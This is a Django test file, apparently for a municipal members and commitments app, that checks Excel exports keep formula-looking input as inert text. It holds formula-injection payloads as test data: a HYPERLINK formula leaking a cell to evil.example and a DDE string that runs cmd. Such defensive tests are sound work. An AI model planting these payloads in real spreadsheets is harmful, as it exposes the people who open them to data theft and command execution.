"""Every Excel file the product writes stores hostile text as text: list exports, background jobs, the cycle report."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from commitments import services as commitment_services
from commitments.models import SourceKind
from core.exports import XLSX_CONTENT_TYPE
from members.models import Member
from reports import tasks
from reports.models import ExportJob
from reports.tests.test_cycle_report import _urls

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


def _formulas(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}


def test_a_member_named_like_a_formula_exports_as_text(login, city_staff, member_a):
    Member.objects.filter(pk=member_a.pk).update(full_name=FORMULA)
    response = login(city_staff).get(reverse("reports:export", args=["members"]))
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert _formulas(response.content) == []
    assert FORMULA in _texts(response.content)


def test_a_background_export_stores_formulas_as_text_and_downloads_as_xlsx(settings, tmp_path, login, city_staff,
                                                                           member_a):  # fmt: skip
    settings.MEDIA_ROOT = tmp_path
    Member.objects.filter(pk=member_a.pk).update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    job = ExportJob.objects.create(owner=city_staff, kind="members")
    tasks.run_export(job.pk)
    response = login(city_staff).get(reverse("reports:job_download", args=[job.pk]))
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    content = b"".join(response.streaming_content)
    assert _formulas(content) == []
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in _texts(content)


def test_a_commitment_measure_like_a_formula_exports_as_text(login, world, city_staff, ward_a):
    review = world["cycle"].collective_reviews.get(organization=ward_a)
    rows = [{"shortcoming": "-1+1", "measure": FORMULA, "deadline": datetime.date.today() + datetime.timedelta(9)}]
    commitment_services.create_commitments(SourceKind.COLLECTIVE_REVIEW, review, rows, city_staff)
    response = login(city_staff).get(reverse("reports:export", args=["commitments"]))
    assert _formulas(response.content) == []
    assert {FORMULA, "-1+1"} <= _texts(response.content)


def test_the_cycle_reports_workbook_stores_formulas_as_text(world, city, login, city_staff):
    client = login(city_staff)
    saved = client.post(_urls(world, city)["edit"], {"assessment": "=1+2", "direction": "+cmd", "revision": 0})
    assert saved.status_code == 302
    response = client.get(_urls(world, city)["xlsx"])
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert _formulas(response.content) == []
    assert {"=1+2", "+cmd"} <= _texts(response.content)
